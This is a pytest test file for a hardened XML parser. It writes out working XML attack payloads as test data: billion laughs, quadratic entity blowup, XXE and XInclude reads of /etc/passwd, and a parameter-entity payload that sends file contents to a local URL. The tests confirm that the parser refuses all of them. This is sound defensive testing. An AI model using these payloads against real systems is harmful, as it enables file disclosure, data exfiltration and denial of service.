"""``parse_xml`` refuses what could expand, fetch or nest without bound, and never expands anything.

Entity attacks are written inline. Memory is checked with :mod:`tracemalloc`
(Python allocations, including any text lxml would hand back) and with the
process's peak resident size (libxml2's own allocations); time is never
asserted.
"""

from __future__ import annotations

import resource
import socket
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from harness.catalog import Catalog
from harness.validation.validator import validator_for
from harness.validation.xmlsafe import MAX_DEPTH, UnsafeXml, parse_xml

NS = "urn:netcode:intel-report:1.0"
XML_SAMPLES = Path(__file__).resolve().parents[2] / "fixtures/formats/intel-report-xml/1.0/samples"
MB = 1 << 20

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "file:///etc/passwd">
<foo/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">
  %eval;
  %exfil;
]>
<foo/>
"""

UNDEFINED_ENTITY = b"<foo>&undefined;</foo>"

XINCLUDE = b"""<?xml version="1.0"?>
<root xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file:///etc/passwd" parse="text"/>
</root>
"""

NESTED_XINCLUDE = (
    b'<root xmlns="urn:x"><a><b><c><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    b"</c></b></a></root>"
)


def quadratic_blowup(entity_size: int = 100_000, references: int = 1000) -> bytes:
    entity = "x" * entity_size
    body = "&a;" * references
    return f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "{entity}">]>\n<r>{body}</r>\n'.encode()


def nested(depth: int) -> bytes:
    return b"<e>" * depth + b"</e>" * depth


def _peak_rss_bytes() -> int:
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak if sys.platform == "darwin" else peak * 1024


def _refused_within_memory(data: bytes, limit: int = 20 * MB) -> UnsafeXml:
    """Parse ``data``, expect UnsafeXml; the peak of Python and process memory stays small."""
    rss_before = _peak_rss_bytes()
    tracemalloc.start()
    try:
        with pytest.raises(UnsafeXml) as info:
            parse_xml(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < limit, f"Python memory peaked at {peak} bytes"
    # Peak RSS only ever grows; an expansion would add hundreds of MB (billion laughs: ~3 GB).
    assert _peak_rss_bytes() - rss_before < 5 * limit
    return info.value


# --------------------------------------------------------------------------- refused


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (BILLION_LAUGHS, "DOCTYPE"),
        (EXTERNAL_ENTITY, "DOCTYPE"),
        (EXTERNAL_DTD, "DOCTYPE"),
        (PARAMETER_ENTITY, "DOCTYPE"),
        (UNDEFINED_ENTITY, "not well-formed"),
        (XINCLUDE, "XInclude"),
        (NESTED_XINCLUDE, "XInclude"),
        (b'<?xml version="1.0"?>\n<!doctype foo>\n<foo/>', "DOCTYPE"),
        (b'<foo><!ENTITY a "b"></foo>', ""),
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entity",
        "undefined-entity",
        "xinclude",
        "nested-xinclude",
        "lowercase-doctype",
        "entity-declaration-in-content",
    ],
)
def test_dangerous_xml_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(UnsafeXml) as info:
        parse_xml(data)
    message = str(info.value)
    assert why in message
    assert "\n" not in message
    assert "root:" not in message  # nothing of /etc/passwd leaks into the reason


def test_billion_laughs_is_refused_without_expanding() -> None:
    error = _refused_within_memory(BILLION_LAUGHS)
    assert "DOCTYPE" in str(error)
    assert "lol" not in str(error)


def test_quadratic_blowup_is_refused_without_expanding() -> None:
    data = quadratic_blowup()
    assert len(data) > 100_000
    error = _refused_within_memory(data)
    assert "DOCTYPE" in str(error)


def _utf16_le_without_bom(text: str) -> bytes:
    return text.encode("utf-16-le")


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode("utf-16"),  # with BOM, native order
        lambda text: b"\xff\xfe" + text.encode("utf-16-le"),
        lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
        _utf16_le_without_bom,
    ],
    ids=["utf16-bom", "utf16le-bom", "utf16be-bom", "utf16le-no-bom"],
)
@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_a_utf16_document_with_a_doctype_is_refused(encode: Callable[[str], bytes], document: bytes) -> None:
    text = document.decode("ascii").replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    data = encode(text)
    assert b"<!DOCTYPE" not in data  # the markup is invisible to a byte search
    error = _refused_within_memory(data)
    assert "\n" not in str(error)
    assert "root:" not in str(error)


def test_bad_utf16_is_refused() -> None:
    with pytest.raises(UnsafeXml):
        parse_xml(b"\xff\xfe<\x00a\x00/\x00>\x00\x00\xd8")  # unpaired surrogate


def test_nesting_deeper_than_max_depth_is_refused() -> None:
    with pytest.raises(UnsafeXml, match=str(MAX_DEPTH)):
        parse_xml(nested(MAX_DEPTH + 1))


def test_nesting_of_max_depth_is_accepted() -> None:
    root = parse_xml(nested(MAX_DEPTH))
    assert root.tag == "e"


@pytest.mark.parametrize("depth", [300, 100_000])
def test_very_deep_nesting_is_refused(depth: int) -> None:
    with pytest.raises(UnsafeXml):
        parse_xml(nested(depth))


def test_a_custom_max_depth_is_honoured() -> None:
    parse_xml(nested(10), max_depth=10)
    with pytest.raises(UnsafeXml):
        parse_xml(nested(11), max_depth=10)


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"<a>", b"<a></b>", b"not xml", b"<a/><b/>", b"\x00\x01\x02"],
    ids=["empty", "blank", "unclosed", "mismatched", "text", "two-roots", "binary"],
)
def test_malformed_xml_is_refused(data: bytes) -> None:
    with pytest.raises(UnsafeXml):
        parse_xml(data)


# --------------------------------------------------------------------------- accepted


def test_a_normal_namespaced_document_is_accepted() -> None:
    data = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<ir:intelReport xmlns:ir="urn:netcode:intel-report:1.0" xmlns:x="urn:example:ext" profile="p">'
        b"<ir:text>a &amp; b &lt;c&gt; &#233; &#x41;</ir:text><!-- a comment --><?pi data?>"
        b"<ir:extensions><x:thing>1</x:thing></ir:extensions></ir:intelReport>"
    )
    root = parse_xml(data)
    assert root.tag == f"{{{NS}}}intelReport"
    assert root.findtext(f"{{{NS}}}text") == "a & b <c> \u00e9 A"
    assert root.find(f"{{{NS}}}extensions/{{urn:example:ext}}thing") is not None


@pytest.mark.parametrize("name", ["full.xml", "minimal.xml", "prefixed.xml", "vrm-styles.xml"])
def test_the_valid_samples_are_accepted(name: str) -> None:
    root = parse_xml((XML_SAMPLES / "valid" / name).read_bytes())
    assert root.tag == f"{{{NS}}}intelReport"


@pytest.mark.parametrize(
    "codec",
    ["utf-16", "utf-16-le-bom", "utf-16-be-bom"],
)
def test_a_utf16_document_without_doctype_is_accepted(codec: str) -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<ir:report xmlns:ir="urn:netcode:intel-report:1.0">caf\u00e9</ir:report>'
    )
    if codec == "utf-16":
        data = text.encode("utf-16")
    elif codec == "utf-16-le-bom":
        data = b"\xff\xfe" + text.encode("utf-16-le")
    else:
        data = b"\xfe\xff" + text.encode("utf-16-be")
    root = parse_xml(data)
    assert root.tag == f"{{{NS}}}report"
    assert root.text == "caf\u00e9"


def test_the_full_sample_in_utf16_is_accepted() -> None:
    text = (XML_SAMPLES / "valid/full.xml").read_text(encoding="utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    root = parse_xml(text.encode("utf-16"))
    assert root.tag == f"{{{NS}}}intelReport"


@pytest.mark.parametrize(
    "template",
    [
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "{url}"><a/>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e SYSTEM "{url}">]><a>&e;</a>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY % p SYSTEM "{url}"> %p;]><a/>',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}"/></a>',
    ],
    ids=["external-dtd", "external-entity", "parameter-entity", "xinclude"],
)
def test_nothing_is_fetched_even_past_the_doctype_search(template: str) -> None:
    """UTF-16 without a BOM hides ``<!DOCTYPE`` from the byte search; the parser still fetches nothing."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        url = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        with pytest.raises(UnsafeXml):
            parse_xml(template.format(url=url).encode("utf-16-le"))
        with pytest.raises(BlockingIOError):
            server.accept()


def test_schema_location_hints_are_not_fetched() -> None:
    data = (
        b'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:schemaLocation="urn:x http://127.0.0.1:9/never.xsd" xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>'
    )
    root = parse_xml(data)
    assert etree.QName(root).localname == "a"


# --------------------------------------------------------------------------- the validator on such XML


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        UNDEFINED_ENTITY,
        XINCLUDE,
        nested(MAX_DEPTH + 1),
        BILLION_LAUGHS.decode("ascii").encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "undefined-entity", "xinclude", "deep", "utf16"],
)
def test_the_validator_gives_one_schema_finding_for_unsafe_xml(catalog: Catalog, data: bytes) -> None:
    result = validator_for(catalog.format("intel-report-xml/1.0")).validate(data)
    assert len(result.findings) == 1
    (finding,) = result.findings
    assert finding.rule == "schema"
    assert finding.location == "/"
    assert finding.message
    assert not result.valid


def test_the_validator_refuses_quadratic_blowup_within_memory(catalog: Catalog) -> None:
    validator = validator_for(catalog.format("intel-report-xml/1.0"))
    data = quadratic_blowup()
    tracemalloc.start()
    try:
        result = validator.validate(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.rules == {"schema"}
    assert peak < 20 * MB
